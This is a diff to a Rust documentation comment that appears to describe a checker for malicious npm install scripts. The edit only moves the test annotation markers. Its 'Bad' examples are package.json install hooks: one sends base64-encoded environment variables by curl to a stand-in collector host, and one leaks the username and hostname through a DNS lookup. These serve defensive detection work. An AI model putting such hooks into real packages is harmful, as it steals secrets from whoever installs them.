@@ -14,8 +14,8 @@
 //! ## Bad
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "env | base64 | curl -s -d @- https://collector.invalid/"}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "env | base64 | curl -s -d @- https://collector.invalid/"}}
 //! ```
 //!
 //! ```package
@@ -26,8 +26,8 @@
 //! ```
 //!
 //! ```package
-//! == package.json
-//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "nslookup $(whoami).$(hostname).collector.invalid"}} //~ here
+//! == package.json //~ 1
+//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "nslookup $(whoami).$(hostname).collector.invalid"}}
 //! ```
 //!
 //! ## Good
